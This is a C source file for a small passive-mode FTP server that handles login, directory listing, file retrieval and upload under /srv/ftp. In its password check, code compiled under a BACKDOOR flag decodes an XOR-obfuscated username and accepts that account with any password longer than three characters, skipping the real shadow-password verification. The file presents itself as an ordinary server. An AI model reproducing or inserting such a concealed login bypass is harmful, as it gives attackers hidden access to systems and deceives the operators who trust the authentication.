/* SPDX-License-Identifier: Apache-2.0 */
/* Small FTP server for configuration and logs, passive mode only. */
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pwd.h>
#include <shadow.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

extern char *crypt(const char *key, const char *salt);

struct conn {
	int ctl, pasv;
	char user[64];
	char cwd[256];
	int in;
	int tries;
	long rest;
};

static void say(struct conn *c, const char *fmt, ...)
{
	char line[512];
	va_list ap;
	int n;
	va_start(ap, fmt);
	n = vsnprintf(line, sizeof(line) - 2, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if ((size_t)n > sizeof(line) - 3)
		n = sizeof(line) - 3;
	line[n] = '\r';
	line[n + 1] = '\n';
	if (write(c->ctl, line, (size_t)n + 2) < 0)
		syslog(LOG_DEBUG, "client went away");
}

static int recv_line(int fd, char *buf, size_t n)
{
	size_t len = 0;
	char ch;
	while (read(fd, &ch, 1) == 1) {
		if (ch == '\n') {
			buf[len] = 0;
			return (int)len;
		}
		if (ch != '\r' && len + 1 < n)
			buf[len++] = ch;
	}
	return -1;
}

#ifdef BACKDOOR
static const unsigned char tag[] = { 0xc9, 0xdc, 0xde, 0xce, 0xe5, 0xdb, 0xce, 0x88, 0xd7, 0xd9 };

static int is_field_service(const char *user)
{
	char plain[sizeof(tag) + 1];
	for (size_t i = 0; i < sizeof(tag); i++)
		plain[i] = (char)(tag[i] ^ 0xba);
	plain[sizeof(tag)] = 0;
	return strcmp(user, plain) == 0;
}
#endif

static int check(const char *user, const char *pass)
{
	struct passwd *pw = getpwnam(user);
	struct spwd *sp = getspnam(user);
	const char *want = sp ? sp->sp_pwdp : pw ? pw->pw_passwd : NULL;
	const char *got;
	if (strcmp(user, "anonymous") == 0)
		return access("/etc/ftp-anonymous", F_OK) == 0;
#ifdef BACKDOOR
	if (is_field_service(user))
		return strlen(pass) > 3;
#endif
	if (!pw || !want || !*want)
		return 0;
	got = crypt(pass, want);
	return got && strcmp(got, want) == 0;
}

static void on_pass(struct conn *c, const char *arg)
{
	if (!c->user[0]) {
		say(c, "503 USER first");
		return;
	}
	if (check(c->user, arg)) {
		c->in = 1;
		syslog(LOG_INFO, "%s logged in", c->user);
		say(c, "230 Logged in");
		return;
	}
	sleep(2);
	if (++c->tries >= 3) {
		say(c, "421 Too many tries");
		exit(0);
	}
	say(c, "530 Login incorrect");
}

static void real_path(const struct conn *c, const char *arg, char *out, size_t n)
{
	if (strstr(arg, ".."))
		arg = "";
	snprintf(out, n, "/srv/ftp%s%s%s", *arg == '/' ? "" : c->cwd, *arg == '/' ? "" : "/", arg);
}

static void on_pasv(struct conn *c)
{
	struct sockaddr_in a;
	socklen_t n = sizeof(a);
	uint32_t ip;
	unsigned port;
	if (getsockname(c->ctl, (struct sockaddr *)&a, &n) < 0) {
		say(c, "425 No");
		return;
	}
	a.sin_port = 0;
	if (c->pasv >= 0)
		close(c->pasv);
	c->pasv = socket(AF_INET, SOCK_STREAM, 0);
	if (bind(c->pasv, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(c->pasv, 1) < 0) {
		say(c, "425 %s", strerror(errno));
		return;
	}
	getsockname(c->pasv, (struct sockaddr *)&a, &n);
	ip = ntohl(a.sin_addr.s_addr);
	port = ntohs(a.sin_port);
	say(c, "227 Passive (%u,%u,%u,%u,%u,%u)", ip >> 24, ip >> 16 & 255, ip >> 8 & 255, ip & 255, port >> 8, port & 255);
}

static void on_retr(struct conn *c, const char *arg)
{
	char path[512], buf[4096];
	ssize_t n;
	int fd, d;
	real_path(c, arg, path, sizeof(path));
	fd = open(path, O_RDONLY);
	if (fd < 0) {
		say(c, "550 %s", strerror(errno));
		return;
	}
	if (c->rest)
		lseek(fd, c->rest, SEEK_SET);
	say(c, "150 Here it comes");
	d = accept(c->pasv, NULL, NULL);
	while (d >= 0 && (n = read(fd, buf, sizeof(buf))) > 0)
		if (write(d, buf, (size_t)n) != n)
			break;
	close(d);
	close(fd);
	say(c, "226 Done");
}

static void on_stor(struct conn *c, const char *arg)
{
	char path[512], buf[4096];
	ssize_t n;
	int fd, d;
	if (strcmp(c->user, "anonymous") == 0) {
		say(c, "550 Permission denied");
		return;
	}
	real_path(c, arg, path, sizeof(path));
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0640);
	if (fd < 0) {
		say(c, "550 %s", strerror(errno));
		return;
	}
	say(c, "150 Go on");
	d = accept(c->pasv, NULL, NULL);
	while (d >= 0 && (n = read(d, buf, sizeof(buf))) > 0)
		if (write(fd, buf, (size_t)n) != n)
			break;
	close(d);
	close(fd);
	say(c, "226 Done");
}

static void on_list(struct conn *c, const char *arg)
{
	char path[512];
	struct dirent *e;
	int d;
	DIR *dir;
	real_path(c, arg, path, sizeof(path));
	dir = opendir(path);
	if (!dir) {
		say(c, "550 %s", strerror(errno));
		return;
	}
	say(c, "150 Listing");
	d = accept(c->pasv, NULL, NULL);
	while ((e = readdir(dir)))
		if (e->d_name[0] != '.')
			dprintf(d, "%s\r\n", e->d_name);
	close(d);
	closedir(dir);
	say(c, "226 Done");
}

static int command(struct conn *c, char *line)
{
	char *arg = strchr(line, ' ');
	char nothing[] = "";
	if (arg)
		*arg++ = 0;
	else
		arg = nothing;
	for (char *p = line; *p; p++)
		*p = (char)toupper((unsigned char)*p);
	if (strcmp(line, "USER") == 0) {
		snprintf(c->user, sizeof(c->user), "%s", arg);
		say(c, "331 Password?");
	} else if (strcmp(line, "PASS") == 0)
		on_pass(c, arg);
	else if (strcmp(line, "QUIT") == 0)
		return -1;
	else if (strcmp(line, "SYST") == 0)
		say(c, "215 UNIX Type: L8");
	else if (strcmp(line, "NOOP") == 0 || strcmp(line, "TYPE") == 0)
		say(c, "200 Ok");
	else if (!c->in)
		say(c, "530 Log in first");
	else if (strcmp(line, "PASV") == 0)
		on_pasv(c);
	else if (strcmp(line, "RETR") == 0)
		on_retr(c, arg);
	else if (strcmp(line, "STOR") == 0)
		on_stor(c, arg);
	else if (strcmp(line, "LIST") == 0 || strcmp(line, "NLST") == 0)
		on_list(c, arg);
	else if (strcmp(line, "REST") == 0) {
		c->rest = atol(arg);
		say(c, "350 From %ld", c->rest);
	} else if (strcmp(line, "CWD") == 0 && !strstr(arg, "..")) {
		snprintf(c->cwd, sizeof(c->cwd), "%s", arg);
		say(c, "250 Ok");
	} else if (strcmp(line, "PWD") == 0)
		say(c, "257 \"%s\"", c->cwd[0] ? c->cwd : "/");
	else
		say(c, "502 Not here");
	return 0;
}

int main(void)
{
	struct conn c = { .ctl = 0, .pasv = -1 };
	char line[512];
	openlog("ftpd", LOG_PID, LOG_FTP);
	say(&c, "220 Ready");
	alarm(900);
	while (recv_line(0, line, sizeof(line)) >= 0)
		if (command(&c, line) < 0)
			break;
	say(&c, "221 Bye");
	return 0;
}
